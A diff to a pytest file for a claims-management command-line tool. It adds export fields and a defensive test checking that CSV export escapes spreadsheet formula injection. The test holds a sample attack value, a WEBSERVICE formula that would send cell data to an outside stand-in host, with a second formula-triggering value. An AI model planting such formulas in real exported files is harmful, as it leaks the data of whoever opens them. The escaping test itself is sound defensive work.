@@ -1,5 +1,6 @@
 """The command line as an operator meets it: real subprocesses of run.py."""
 
+import csv
 import json
 import subprocess
 import sys
@@ -9,6 +10,8 @@ import pytest
 import yaml
 
 from core.settings import PROJECT_ROOT
+from models import ClaimStatus
+from tests.factories import make_claim
 
 COMMANDS = [[], ["claims"], ["claims", "export"], ["users"], ["users", "add"], ["demo"]]
 
@@ -83,7 +86,7 @@ def test_claims_export_json_has_every_contract_field(config):
     assert rows and all(r["status"] == "PAID" for r in rows)
     for key in ("claim_no", "revision", "status", "kpj", "nik", "worker_name", "kabupaten_code",
                 "benefit_type", "approved_amount", "bank_code", "account_no", "instruction_id",
-                "batch_id", "bank_reference", "paid_date", "failure_code"):
+                "batch_id", "bank_reference", "paid_date", "failure_code", "payment_due_date", "days_late"):
         assert key in rows[0]
     assert isinstance(rows[0]["approved_amount"], int)
 
@@ -93,3 +96,12 @@ def test_claims_export_csv_streams_a_header_and_rows(config):
     result = run("claims", "export", config=config)
     lines = result.stdout.splitlines()
     assert lines[0].startswith("claim_no,revision,status") and len(lines) == 51
+
+
+def test_claims_export_csv_quotes_a_value_that_would_run_as_a_formula(config):
+    attack = '=WEBSERVICE("http://x/?"&A1)'
+    make_claim(ClaimStatus.ON_HOLD, worker_name=attack, hold_reason="-1+1")
+    result = run("claims", "export", "--format", "csv", config=config)
+    rows = list(csv.DictReader(result.stdout.splitlines()))
+    assert (rows[0]["worker_name"], rows[0]["hold_reason"]) == ("'" + attack, "'-1+1")
+    assert result.returncode == 0
